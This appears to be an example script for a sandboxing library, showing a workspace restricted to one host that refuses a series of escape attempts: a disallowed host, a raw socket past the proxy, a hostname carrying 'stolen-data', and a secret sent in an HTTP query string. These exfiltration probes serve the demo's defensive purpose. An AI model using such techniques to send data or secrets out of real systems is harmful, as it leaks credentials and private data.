"""A workspace that may reach one host, and what happens to all else.

    python one_host.py

Nothing leaves this machine: every program in it wants to go where it may not, and
the person who is asked says no.
"""

from __future__ import annotations

import asyncio
import os
import sys
from typing import TYPE_CHECKING

from isobox import BubblewrapWorkspace, Network, Secret

if TYPE_CHECKING:
    from isobox import Question

#: One host, with a secret; others below a name are asked about.
NETWORK = Network(rules=("api.example.org", "?*.example.com"))

FETCH = """
import sys, urllib.error, urllib.request
try:
    urllib.request.urlopen(sys.argv[1])
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode(), end="")
"""
#: As a program that knows of no proxy, and of no name but its own.
DIAL = """
import socket, sys
try:
    with socket.create_connection((sys.argv[1], 443), 5) as peer:
        peer.sendall(b"hello")
        print("reset" if not peer.recv(1) else "answered")
except OSError as error:
    print(type(error).__name__)
"""


async def approve(question: Question) -> bool:
    """Answer as a careful person does."""
    print("  asked:", question.facts["host"], question.facts["port"])
    return False


async def attempt(workspace: BubblewrapWorkspace, what: str, *command: str) -> None:
    """Let a program try something; print what it saw, and what was refused."""
    print(what)
    result = await workspace.run(command, timeout=30)
    print("  saw:", (result.stdout or result.stderr).strip())
    for denial in result.denials:
        print("  refused:", denial)


async def main() -> None:
    """Try ways out, one after the other."""
    os.environ["API_KEY"] = "the-real-key-stays-here"
    secret = Secret("KEY", source="env:API_KEY", hosts=["api.example.org"])
    async with BubblewrapWorkspace(
        network=NETWORK, secrets=[secret], approve=approve
    ) as ws:
        fetch, dial = ("python3", "-c", FETCH), ("python3", "-c", DIAL)
        await attempt(ws, "A host that no rule allows", *fetch, "http://a.example.net/")
        await attempt(ws, "An address, past the proxy", *dial, "192.0.2.1")
        await attempt(ws, "A name that carries data", *dial, "stolen-data.example.net")
        await attempt(ws, "A person is asked", *fetch, "http://www.example.com/")
        await attempt(ws, "The secret, in the open", "sh", "-c", SEND, "sh", *fetch)


#: What stands inside for the secret goes to its host over TLS, and not otherwise.
SEND = 'exec "$@" "http://api.example.org/?key=$KEY"'


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
